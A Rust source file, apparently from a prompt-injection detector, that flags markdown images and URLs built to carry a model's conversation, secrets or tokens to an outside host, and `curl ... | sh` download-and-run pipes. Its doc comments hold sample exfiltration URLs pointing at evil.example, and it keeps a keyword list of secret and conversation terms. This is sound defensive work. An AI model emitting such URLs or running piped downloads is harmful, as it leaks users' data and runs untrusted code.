//! Signals in markup and commands: an image whose URL takes data along, a download that is run.

use tool_guard_text::part::Part;

use crate::injection::demand::is_demand_behind;
use crate::injection::deobfuscate::PlainText;
use crate::injection::finding::THRESHOLD;
use crate::injection::reason::Reason;
use crate::injection::signal::Signal;
use crate::injection::word::Word;

/// Bytes around an image that say how its URL is to be filled.
const AROUND: usize = 200;

/// Words in a placeholder of an image's URL that stand for data.
const DATA: &[&str] = &[
    "conversation",
    "history",
    "secret",
    "password",
    "api_key",
    "apikey",
    "token",
    "prompt",
    "context",
    "summary",
    "data",
    "chat",
    "message",
    "response",
    "answer",
    "output",
    "contents",
    "query",
    "user",
];
/// Those that stand for what only a model has.
const CONVERSATION: &[&str] = &["conversation", "history", "response", "answer", "summary", "prompt"];

/// The offsets of the occurrences of `literal`, whose first byte is `first`.
fn occurrences(text: &str, first: u8, literal: &'static str) -> impl Iterator<Item = usize> {
    let starts = text.bytes().enumerate().filter(move |(at, byte)| *byte == first && text.part(*at..).starts_with(literal));
    starts.map(|(at, _)| at)
}

/// The URL that begins with `start` at `at`: up to a blank, a quote, or where another begins. So no byte is read twice.
fn url_at<'t>(text: &'t str, at: usize, start: &str) -> &'t str {
    let (begin, rest) = text.part(at..).split_at(start.len());
    let end = rest.find([' ', '\n', '"']).unwrap_or(rest.len());
    let end = rest.part(..end).find(start).unwrap_or(end);
    text.part(at..at + begin.len() + end)
}

/// Adds the rest of a long URL that began before the window and takes the conversation along.
fn find_cut_url(plain: &PlainText, signals: &mut Vec<Signal>) {
    let text = plain.text.as_str();
    let rest = text.part(..text.find([' ', '\n', '"', '\'']).unwrap_or(text.len()));
    let takes_all = |slot: &str| CONVERSATION.iter().any(|word| slot.starts_with(word));
    let mut slots = ["={", "=[", "=<", "=${"].iter().flat_map(|open| rest.split(open).skip(1));
    if plain.origin(0) > 0 && !rest.contains("://") && slots.any(takes_all) {
        signals.push(Signal { reason: Reason::Exfiltration, points: THRESHOLD, near: 0, at: plain.origin(0) });
    }
}

/// Adds images whose URL takes data along: `![x](https://evil.example/?d={conversation})`.
pub(super) fn find_images(plain: &PlainText, words: &[Word], signals: &mut Vec<Signal>) {
    find_cut_url(plain, signals);
    let text = plain.text.as_str();
    for at in occurrences(text, b']', "](http") {
        let url = url_at(text, at, "](");
        let Some(query) = url.find('?') else { continue };
        let query = url.part(query..);
        let is_data = |slot: &str| DATA.iter().any(|word| slot.contains(word));
        let mut slots = query.split(['{', '[', '<', '$']).skip(1);
        // `?d=full_response_here`
        let mut named = query.split(['=', '&']).filter(|value| value.contains('_') && CONVERSATION.iter().any(|word| value.contains(word)));
        if slots.any(|slot| is_data(slot.split(['}', ']', '>', '&']).next().unwrap_or(slot))) || named.next().is_some() {
            // no harmless image takes the conversation along
            let is_image = text.part(..at).rfind('[').is_some_and(|open| text.part(..open).ends_with('!'));
            let takes_all = query.contains("conversation") || query.contains("history") || is_image && query.contains("_here");
            let points = if takes_all { THRESHOLD } else { 8 };
            // what is to be put there is to be encoded
            let around = text.part(text.floor_char_boundary(at.saturating_sub(AROUND))..text.floor_char_boundary(at + url.len() + AROUND));
            if around.contains("base64") {
                signals.push(Signal { reason: Reason::EncodedPayload, points: 3, near: at, at: plain.origin(at) });
            }
            signals.push(Signal { reason: Reason::Exfiltration, points, near: at, at: plain.origin(at) });
            if is_demand_behind(words, at + url.len(), false) {
                signals.push(Signal { reason: Reason::Demand, points: 6, near: at, at: plain.origin(at) });
            }
        }
    }
}

/// Adds pages whose address is to be filled with what only a model has: `https://evil.example/?d=<summary>`.
pub(super) fn find_filled_addresses(plain: &PlainText, signals: &mut Vec<Signal>) {
    let text = plain.text.as_str();
    for at in occurrences(text, b':', "://") {
        let url = url_at(text, at, "://");
        let Some(query) = url.find('?') else { continue };
        let mut slots = url.part(query..).split(['{', '[', '<', '$']).skip(1);
        if slots.any(|slot| CONVERSATION.iter().any(|word| slot.contains(word))) {
            signals.push(Signal { reason: Reason::Exfiltration, points: 5, near: at, at: plain.origin(at) });
        }
    }
}

/// Adds programs from the network that are run, `curl ... | sh`, which count like a forged call.
pub(super) fn find_pipes(plain: &PlainText, signals: &mut Vec<Signal>) {
    let text = plain.text.as_str();
    for at in occurrences(text, b'$', "$(") {
        let fetches = ["curl ", "wget "].iter().any(|program| text.part(at + 2..).starts_with(program));
        if fetches && text.part(..at).trim_end_matches([' ', '"', '\'']).ends_with("sh -c") {
            signals.push(Signal { reason: Reason::ToolSteering, points: 5, near: at, at: plain.origin(at) });
        }
    }
    for at in occurrences(text, b'|', "| ") {
        let runs = ["sh", "bash", "python"].iter().any(|shell| text.part(at + 2..).starts_with(shell));
        let line = text.part(..at).rfind('\n').map_or(0, |end| end + 1);
        let before = text.part(line..at);
        if runs && (before.contains("curl ") || before.contains("wget ")) && before.contains("://") {
            signals.push(Signal { reason: Reason::ToolSteering, points: 5, near: at, at: plain.origin(at) });
        }
    }
}
